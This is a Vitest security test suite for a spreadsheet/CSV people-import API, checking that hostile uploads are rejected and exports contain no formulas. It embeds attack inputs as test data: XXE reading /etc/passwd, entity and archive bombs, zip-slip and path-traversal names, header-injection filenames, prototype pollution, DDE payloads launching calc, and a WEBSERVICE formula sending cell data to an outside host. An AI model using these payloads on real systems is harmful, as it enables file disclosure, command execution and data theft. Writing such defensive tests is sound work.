import { Readable } from 'node:stream'
import { strFromU8, strToU8, unzipSync } from 'fflate'
import { beforeAll, expect, test } from 'vitest'
import { inline, workbook } from '../../platform/server/spreadsheet/tests/workbook-fixture.ts'
import { openStory, registerPlaces } from '../support/open-story.ts'
import { madeUpIdentityNumber } from '../support/people-sheet.ts'
import { takeFile } from '../support/send-sheet.ts'
import { testServer } from '../support/test-server.ts'
import { INSIDE } from './bad-input-words.ts'

const { url, as } = await testServer()
const commander = await as('commander')
let responseId = ''

beforeAll(async () => {
  await registerPlaces(as)
  responseId = await openStory(as)
})

const headers = ['姓名', '证件号码', '村（社区）', '户号', '住址']
const sheetOf = (rows: string[][]) => [headers, ...rows].map((row) => `<row>${row.map(inline).join('')}</row>`).join('')
const csvOf = (rows: string[][]) =>
  [headers, ...rows].map((row) => `${row.map((cell) => `"${cell}"`).join(',')}\r\n`).join('')
const person = (n: number, name = '演示某', more: string[] = []) => [
  name,
  madeUpIdentityNumber(n),
  '甲村',
  'H1',
  ...more,
]

interface Told {
  code?: string
  zh?: string
  en?: string
  accepted?: number
  rejected?: number
  rejectedRows?: string
}

async function post(
  body: BodyInit,
  { path = '/api/imports/people.people', type = '' } = {},
): Promise<Told & { status: number }> {
  const answer = await fetch(url + path, {
    method: 'POST',
    headers: { 'x-muster': '1', cookie: commander.cookie, ...(type ? { 'content-type': type } : {}) },
    body,
  })
  const text = await answer.text()
  expect(text).not.toMatch(INSIDE)
  return { status: answer.status, ...(JSON.parse(text) as Told) }
}

function formOf(file: Uint8Array | string, name = '人员.xlsx', more: [string, string][] = []): FormData {
  const form = new FormData()
  for (const [key, value] of [['responseId', responseId], ...more] as [string, string][]) form.append(key, value)
  form.append('file', new Blob([typeof file === 'string' ? file : new Uint8Array(file)]), name)
  return form
}

const people = async () => (await commander.ask<{ total: number }>('people.people', { responseId, limit: 1 })).total

const jpeg = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46])
const files: [story: string, file: () => Uint8Array | string, name: string, status: number, code: string][] = [
  ['a photograph called a workbook', () => jpeg, '人员.xlsx', 400, 'spreadsheet.notXlsx'],
  ['a photograph called a photograph', () => jpeg, '人员.jpg', 400, 'spreadsheet.notXlsx'],
  ['a photograph called a CSV', () => Uint8Array.from([...jpeg, 0, 1]), '人员.csv', 400, 'spreadsheet.notCsv'],
  ['a page called a workbook', () => '<script>struck()</script>', '人员.xlsx', 400, 'spreadsheet.notXlsx'],
  ['a program', () => Buffer.from('MZ\u0090\u0000'), '人员.exe', 400, 'spreadsheet.notXlsx'],
  ['nothing', () => '', '人员.xlsx', 400, 'spreadsheet.notXlsx'],
  ['an empty CSV', () => '', '人员.csv', 400, 'spreadsheet.empty'],
  [
    'a bomb',
    () => workbook({ sheetData: sheetOf([]), more: { 'xl/media/a': new Uint8Array(64 << 20) } }),
    '人员.xlsx',
    400,
    'spreadsheet.suspiciousArchive',
  ],
  [
    'a bomb of nested entities',
    () =>
      workbook({
        sheetData: sheetOf([]),
        workbook: '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><workbook>&d;</workbook>',
      }),
    '人员.xlsx',
    400,
    'spreadsheet.notXlsx',
  ],
  [
    'a workbook that reads a file of the server',
    () =>
      workbook({
        sheetData: sheetOf([]),
        workbook: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><workbook>&b;</workbook>',
      }),
    '人员.xlsx',
    400,
    'spreadsheet.notXlsx',
  ],
  [
    'a workbook whose parts lie outside of it',
    () => workbook({ sheetData: sheetOf([person(1)]), more: { '../../../../etc/cron.d/a': strToU8('x') } }),
    '人员.xlsx',
    400,
    'spreadsheet.notXlsx',
  ],
  [
    'a quote without an end',
    () => `姓名,证件号码,村（社区）\r\n"${'x'.repeat(3 << 20)}`,
    '人员.csv',
    400,
    'spreadsheet.csvBroken',
  ],
]

test.each(files)('%s is told so, and nothing of it is taken', async (_story, file, name, status, code) => {
  const before = await people()
  const answer = await post(formOf(file(), name))
  expect(answer).toMatchObject({ status, code })
  expect(answer.zh).toMatch(/\p{Script=Han}.*。/u)
  expect(await people()).toBe(before)
})

test('a file that is no form, no file, two files, a file too large, and half a form are each told so', async () => {
  expect(await post('{}', { type: 'application/json' })).toMatchObject({ status: 400, code: 'platform.badCommand' })
  expect(await post(new Uint8Array(jpeg), { type: 'image/jpeg' })).toMatchObject({
    status: 400,
    code: 'platform.badCommand',
  })
  const none = new FormData()
  none.append('responseId', responseId)
  expect(await post(none)).toMatchObject({ status: 400, code: 'platform.badInput' })
  const half = '--x\r\ncontent-disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\nPK'
  expect((await post(half, { type: 'multipart/form-data; boundary=x' })).status).toBe(400)
  const large = await post(formOf(new Uint8Array(65 << 20)))
  expect(large).toMatchObject({ status: 413, code: 'spreadsheet.tooLarge' })
  expect(large.zh).toContain('64 MB')
  // Cut off at the limit, a CSV would still look whole.
  const rows = Array.from({ length: 3 }, (_, at) => person(500 + at))
  const long = await post(formOf(csvOf(rows) + ',,,,\r\n'.repeat((65 << 20) / 6), '人员.csv'))
  expect(long).toMatchObject({ status: 413, code: 'spreadsheet.tooLarge' })
  const odd = formOf(workbook({ sheetData: sheetOf([]) }), '人员.xlsx', [['__proto__', 'struck']])
  expect((await post(odd)).accepted ?? 0).toBe(0)
  expect(({} as { struck?: string }).struck).toBeUndefined()
})

test.each([
  '../../../../etc/passwd',
  '..\\..\\a.xlsx',
  'a\u0000.csv',
  '人员\r\nset-cookie: a=b.xlsx',
  `${'长'.repeat(5_000)}.xlsx`,
])('what a file is called leads nowhere: %j', async (name) => {
  const answer = await post(formOf(workbook({ sheetData: sheetOf([]) }), name))
  expect([200, 400]).toContain(answer.status)
})

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '=HYPERLINK("http://a","b")',
  '＝1+1',
  "'=1",
  "=cmd|' /C calc'!A0",
]
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')

test('cells with formulas are taken as what they showed, and none leaves as a formula, in xlsx and CSV', async () => {
  const before = await people()
  const rows = formulas.map((text, at) => person(100 + at, escaped(`${text}甲`), [escaped(text)]))
  const shown = `<row><c t="str"><f>WEBSERVICE("http://a/"&amp;A1)</f><v>演示甲</v></c>${[madeUpIdentityNumber(200), '甲村', 'H2'].map(inline).join('')}</row>`
  const took = await post(formOf(workbook({ sheetData: sheetOf(rows) + shown })))
  expect(took).toMatchObject({ status: 200, accepted: rows.length + 1, rejected: 0 })
  expect(await people()).toBe(before + rows.length + 1)
  for (const format of ['xlsx', 'csv'])
    expectNoFormula(await takeFile(commander, 'people.people', { responseId, format }), format)
})

test('rows that are sent back are no formulas either, and characters that cannot be kept are told by their column', async () => {
  const spoilt = formulas.map((text) => [escaped(text), '123', '没有这个村', escaped(text), escaped(text)])
  const nul = person(300, '演_x0000_某')
  const took = await post(formOf(workbook({ sheetData: sheetOf([...spoilt, nul]) })))
  expect(took).toMatchObject({ accepted: 0, rejected: spoilt.length + 1 })
  const csv = await takeFile(commander, 'platform.rejectedRows', { id: took.rejectedRows, format: 'csv' })
  expectNoFormula(csv, 'csv')
  expect(csv.toString()).toContain('“姓名”含有无法保存的字符')
  expectNoFormula(await takeFile(commander, 'platform.rejectedRows', { id: took.rejectedRows }), 'xlsx')
  const wide = Buffer.from(`\ufeff${csvOf([person(301, '演\u0000某')])}`, 'utf16le')
  expect(await post(formOf(wide, '人员.csv'))).toMatchObject({ accepted: 0, rejected: 1 })
})

function expectNoFormula(file: Buffer, format: string) {
  if (format === 'csv') {
    expect(file.toString()).not.toMatch(/(?:^|,)(?:"(?:"")*)?[=+\-@\t\r＝＋－＠](?!\d*(?:,|\r|$))/m)
    return
  }
  for (const [part, bytes] of Object.entries(unzipSync(file))) {
    const xml = strFromU8(bytes)
    expect([part, /<f[ >/]|externalLink|<hyperlink|t="str"/.exec(xml)?.[0]]).toEqual([part, undefined])
  }
}

test('who may not import is told so at once, and may ask the next thing on the same connection', async () => {
  const viewer = await as('viewer')
  const started = performance.now()
  for (let times = 0; times < 3; times++) {
    const answer = await fetch(`${url}/api/imports/people.people`, {
      method: 'POST',
      headers: { 'x-muster': '1', cookie: viewer.cookie },
      body: formOf(new Uint8Array(8 << 20)),
    })
    expect([answer.status, ((await answer.json()) as Told).code]).toEqual([403, 'platform.notAllowed'])
    await viewer.ask('areas.children')
  }
  expect(performance.now() - started).toBeLessThan(60_000)
})

test('an upload that breaks off in the middle is hung up on, and the next is served', async () => {
  const broken = new AbortController()
  const chunks = (async function* () {
    yield Buffer.from('--x\r\ncontent-disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\nPK')
    broken.abort()
    yield Buffer.alloc(1000)
  })()
  await fetch(`${url}/api/imports/people.people`, {
    method: 'POST',
    headers: { 'x-muster': '1', cookie: commander.cookie, 'content-type': 'multipart/form-data; boundary=x' },
    body: Readable.toWeb(Readable.from(chunks)) as unknown as BodyInit,
    duplex: 'half',
    signal: broken.signal,
  } as RequestInit).catch(() => {})
  expect((await post(formOf(workbook({ sheetData: sheetOf([person(400)]) })))).accepted).toBe(1)
})
